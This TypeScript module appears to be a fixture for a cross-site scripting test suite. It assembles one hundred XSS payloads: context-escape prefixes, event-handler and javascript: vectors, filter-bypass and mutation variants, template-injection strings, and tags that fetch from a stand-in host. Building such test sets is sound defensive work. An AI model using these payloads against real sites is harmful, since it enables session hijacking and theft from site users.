/** Breaks out of wherever a value may be: text, each kind of attribute, and raw-text elements. */
const EXITS = ['', '">', "'>", '</script>', '</title>', '</textarea>', '</style>', '-->'];

/** Would run or fetch something by itself. */
const VECTORS = [
  '<script>__hit(1)</script>',
  '<img src=x onerror=__hit(1)>',
  '<svg onload=__hit(1)>',
  '<iframe src=javascript:parent.__hit(1)>',
  '<details open ontoggle=__hit(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<img src=//marker.example/a>',
  '<script src=//marker.example/b></script>',
  "<style>@import'//marker.example/c'</style>",
];

const OTHERS = [
  '" onmouseover=__hit(1) x="',
  "' autofocus onfocus=__hit(1) x='",
  '" style=animation-name:x onanimationstart=__hit(1) x="',
  '` onerror=__hit(1) `',
  'javascript:__hit(1)',
  'JaVaScRiPt:__hit(1)//',
  'data:text/html,<script>parent.__hit(1)</script>',
  '<a href=javascript:__hit(1)>x</a>',
  '<form action=//marker.example><button>x</button>',
  '<base href=//marker.example/>',
  '<link rel=stylesheet href=//marker.example/d>',
  '<meta http-equiv=refresh content="0;url=//marker.example">',
  '<object data=//marker.example/e></object>',
  '<embed src=//marker.example/f>',
  '<video src=x onerror=__hit(1)></video>',
  '<audio src=x onerror=__hit(1)></audio>',
  '<svg><animate onbegin=__hit(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__hit(1)>',
  '<noscript><p title="</noscript><img src=x onerror=__hit(1)>">',
  '<scr<script>ipt>__hit(1)</scr</script>ipt>',
  '<ScRiPt>__hit(1)</sCrIpT>',
  '<!--><img src=x onerror=__hit(1)>-->',
  ']]><script>__hit(1)</script>',
  '&lt;script&gt;__hit(1)&lt;/script&gt;',
  '\\u003cscript\\u003e__hit(1)\\u003c/script\\u003e',
  "';__hit(1);'",
  '#{__hit(1)}$'.concat('{__hit(1)}'),
  '{{ "x" | raw }}{% assign a = 1 %}{{ 7 | times: 7 }}',
];

/** One hundred texts that become markup or script wherever a value is not escaped. */
export const PAYLOADS: readonly string[] = [
  ...EXITS.flatMap((exit) => VECTORS.map((one) => exit + one)),
  ...OTHERS,
];

/** The payload after its number, which identifies it on a page; a short one if the field is too small. */
export function planted(n: number, max = 100): string {
  const whole = `Q${n}q${PAYLOADS[n % PAYLOADS.length]}`;
  return whole.length <= max ? whole : `Q${n}q<svg onload=__hit(1)>`;
}
